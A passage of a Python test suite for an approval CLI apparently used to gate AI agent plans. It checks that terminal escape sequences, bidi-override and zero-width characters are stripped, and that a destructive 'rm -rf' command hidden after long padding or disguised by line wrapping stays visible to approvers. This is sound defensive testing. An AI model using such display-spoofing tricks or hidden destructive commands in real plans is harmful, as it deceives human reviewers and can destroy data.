        "✓ measure 1/1 before run: ls → listing works, exit code < 1: 0", "✓ measure 1/1 after run: ls → listing works, exit code < 1: 0, met",
    ]  # fmt: skip


def test_a_rollback_in_doubt_waits_for_a_person(shell: Shell) -> None:
    assert shell.call("approve", shell.waiting()).code == 0
    run_id = shell.call("runs", "--json").json[0]["id"]
    with Runtime(shell.root / "home", workspace=shell.workspace) as runtime:
        runtime.ledger.ask_back(run_id, runtime.actor, 0)
        given = runtime.ledger.dispatch(run_id, "undo", 2, effect_class=EffectClass.OPAQUE, before={})
        assert isinstance(given, Dispatch)
        runtime.ledger.doubt(given, "the process died")
    for words in (["resume", run_id], ["rollback", run_id]):
        found = shell.call(*words)
        assert found.code == 3 and "the undo of step 2 happened" in found.out, found
    (doubt,) = shell.call("inbox", "--json").json
    assert "the undo of step 2" in shell.call("show", doubt["id"]).out
    assert shell.call("settle", doubt["id"], "happened").code == 1, "the run is rolled back, which is no success"
    assert shell.call("show", run_id, "--json").json["status"] == "rolled_back"


# --- hostile text -------------------------------------------------------------------------------------------------------------------

_HOSTILE = "[red]x[/red] \x1b[2J\x1b[31mOK\x07 \u202eevil\u202c \u200b\u2066hid\u2069 \U000e0041 [/] :skull: \x9b2J \r overwritten \x00".replace("\x00", "")


def test_hostile_text_cannot_alter_the_panel(shell: Shell) -> None:
    plan = {
        "form": "assent.plan/1", "workflow_id": _HOSTILE, "intent": _HOSTILE, "author": _HOSTILE,
        "problem": {"title": _HOSTILE, "description": _HOSTILE, "success_criteria": [_HOSTILE], "context": {"affected_systems": [_HOSTILE]}},
        "steps": [{"step": 1, "description": _HOSTILE, "tool": "shell", "args": {"command": f"echo '{_HOSTILE}' > x"}, "rollback_plan": _HOSTILE}],
    }  # fmt: skip
    with Runtime(shell.root / "home", workspace=shell.workspace) as runtime:
        run = runtime.start(plan)
        request = run.requests[0].id
    shown = [shell.call(*words).out for words in (["show", request], ["show", run.id], ["inbox"], ["runs"], ["log", run.id])]
    for text in [*shown, *(shell.call(*words, "--json").out for words in (["show", request], ["show", run.id], ["inbox"], ["runs"], ["log", run.id]))]:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e0fff]", text)
    assert r"\u{001B}" in shown[0] and r"\u{202E}" in shown[0]
    assert "[red]x[/red]" in shown[0] and ":skull:" in shown[0], "markup and emoji codes are text"
    (widths,) = {len(line) for line in shown[0].splitlines() if line.startswith(("╭", "│", "╰"))}
    assert widths > 80, "the frame is whole"
    code, text = _terminal(shell, ["resume", run.id], [(_PROMPT, "?\n"), (_PROMPT, "\x04")], NO_COLOR="1")
    assert code == 3 and "\x1b" not in text and "\x07" not in text and "\u202e" not in text


def test_a_change_in_the_middle_of_a_file_is_seen_with_what_stands_around_it(shell: Shell) -> None:
    (shell.workspace / "notes.txt").write_text("".join(f"line {n}\n" for n in range(1, 60)))
    edit = {"tool": "files", "args": {"operation": "edit", "path": "notes.txt", "old": "line 30\nline 31", "new": "thirty\nthirty-one"}}
    shown = shell.call("show", shell.waiting({"problem": {"title": "t"}, "action": {"steps": [{"step": 1, **edit}]}})).out
    assert all(f"│ {said}" in shown for said in ("-line 30", "-line 31", "+thirty", "+thirty-one", " line 29", " line 32"))
    assert "not shown" not in shown


def test_a_long_value_cannot_push_the_dangerous_part_out_of_view(shell: Shell) -> None:
    command = "echo " + "a" * 5000 + "; rm -rf /nonexistent-folder"
    lines = "\n".join(f"echo {n}" for n in range(500)) + "\nrm -rf /nonexistent-folder"
    for text in (command, lines):
        plan = {"problem": {"title": "long"}, "action": {"steps": [{"step": 1, "tool": "shell", "args": {"command": text}}]}}
        panel = shell.call("show", request := shell.waiting(plan)).out
        flowing = re.sub(r"[│┊\s]+", " ", panel)
        assert "rm -rf /nonexistent-folder" in panel and re.search(r"\\\[[\d,]+ of [\d,]+ (characters|lines)[^\]]* not shown\\\]", flowing)
        assert len(panel.splitlines()) < 80 and "NOT ALL OF IT IS SHOWN" in panel
        assert text.splitlines()[-1] in re.sub(r"\s*┊ ", "", shell.call("show", request, "--all").out)


def test_what_was_not_shown_in_full_is_not_approved_by_one_key(shell: Shell) -> None:
    plan = {"problem": {"title": "long"}, "action": {"steps": [{"step": 1, "tool": "files", "args": {"operation": "write", "path": "a", "content": "line\n" * 500}}]}}
    code, text = _terminal(shell, ["run", shell.document(plan)], [(_PROMPT, "a\n"), (_PROMPT, "\x04")])
    assert code == 3 and "Not all of it was shown" in text
    code, text = _terminal(shell, ["resume", shell.call("runs", "--json").json[0]["id"]], [(_PROMPT, "?\n"), (_PROMPT, "a\n")])
    assert code == 0 and text.count("+line") >= 500


def test_a_wrapped_line_cannot_pass_for_another_line(shell: Shell) -> None:
    plan = {"problem": {"title": "wrap"}, "action": {"steps": [{"step": 1, "tool": "shell", "args": {"command": "rm -rf /nonexistent-folder;" + " " * 60 + "2. [LOW] run: ls #"}}]}}
    _, text = _terminal(shell, ["show", shell.waiting(plan)], [], NO_COLOR="1", COLUMNS="60")
    assert not [line for line in text.splitlines() if re.match(r"│\s+2\. \[LOW\]", line)], text
    assert "┊" in text


def test_the_marker_of_what_is_not_shown_cannot_be_forged() -> None:
    from assent.runtime.cli.lines import block, one_line

    forged = r"\[9 of 9 characters not shown\]"
    assert r"\[9" not in one_line(forged).replace(r"\\[", "")
    assert one_line("x" * 50 + forged + "y" * 500, 100).count(r"characters not shown\]") == 1
    for text in ("a" * 1000, "\u202e" * 1000, "\\" * 1000):
        assert len(one_line(text, 100)) < 160
    shown = block("\n".join(map(str, range(1000))), most=10)
    assert len(shown) == 10 and shown[0] == "0" and shown[-1] == "999" and "991 of 1,000 lines" in "".join(shown)


def test_no_escape_sequences_without_a_terminal_or_under_no_color(shell: Shell) -> None:
    request = shell.waiting()
    assert "\x1b" not in shell.run("show", request).out + shell.run("doctor").out + shell.run("--help").out
    _, coloured = _terminal(shell, ["show", request], [])
    _, plain = _terminal(shell, ["show", request], [], NO_COLOR="1")
    assert "\x1b[" in coloured and "\x1b" not in plain


# --- speed --------------------------------------------------------------------------------------------------------------------------

_HEAVY = re.compile(r"\| +(langgraph|langchain_core|openai|sqlglot|tree_sitter|httpx|tiktoken)(?:\.|$)", re.MULTILINE)


def test_looking_loads_nothing_that_acts(shell: Shell) -> None:
    shell.call("approve", shell.waiting())
    shell.waiting()
    run = shell.call("runs", "--json").json[0]["id"]
    for words in (["--help"], ["version"], ["inbox"], ["runs"], ["show", run], ["log", run], ["log", run, "--json"], ["verify"], ["new", "-"], ["graph"]):
        done = subprocess.run(
            [sys.executable, "-X", "importtime", "-m", "assent", *words], cwd=shell.workspace, env=shell.environment(), capture_output=True, text=True, check=True
        )
        assert "assent.runtime.cli.app" in done.stderr
        assert not _HEAVY.findall(done.stderr), words


def test_the_home_is_for_its_owner_only(shell: Shell) -> None:
    shell.waiting()
    assert stat.S_IMODE((shell.root / "home").stat().st_mode) == 0o700


def test_the_home_of_somebody_else_says_whose_it_is_and_how_to_be_let_in(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    shell.waiting()
    owner = operating_system_user()
    monkeypatch.setattr(os, "getuid", lambda: 4_000_000)
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    for words in (["inbox"], ["show", "req_"], ["run", shell.document(LOW)], ["verify"]):
        said = shell.call(*words)
        assert said.code == 1 and f"is the home of {owner}, and nobody else opens it" in said.err, words
        assert "`assent serve --invite uid:4000000`" in said.err, words
    assert f"is the home of {owner}" in shell.call("doctor").out


def test_a_second_person_completes_a_critical_approval(shell: Shell) -> None:
    config = shell.root / "team.yaml"
    config.write_text("preset: team\nactors: {ada: {roles: [admin]}, amos: {roles: [admin]}}\n")
    ada, amos = (Actor(id=name, assurance=Assurance.AUTHENTICATED) for name in ("ada", "amos"))
    plan = {"problem": {"title": "t"}, "action": {"steps": [{"step": 1, "tool": "shell", "args": {"command": "rm -rf /nonexistent-folder"}}]}}
    found = shell.call("run", shell.document(plan), "--config", str(config), "--json")
    request = found.json["requests"][0]["id"]
    mine = shell.call("approve", request, "--config", str(config), "--reason", "mine")
    assert mine.code == 1 and "error: " in mine.err, "whoever asked does not approve"
    with Runtime(shell.root / "home", workspace=shell.workspace, config=config, actor=ada) as runtime:
        assert runtime.decide(request, "approve", reason="seen").status == "awaiting_approval"
    assert "1 of 2 given" in shell.call("show", request, "--config", str(config)).out
    with Runtime(shell.root / "home", workspace=shell.workspace, config=config, actor=amos) as runtime:
        assert runtime.decide(request, "approve", reason="seen").status != "awaiting_approval"


def test_many_kept_files_are_counted_and_never_cut_in_the_middle() -> None:
    assert _grouped(["a.md", "b.json"]) == "a.md, b.json"
    assert _grouped([*(f"report_{number}.json" for number in range(9)), "a.md", "LICENSE"]) == "11 files, 9 .json, 1 .md, 1 other"
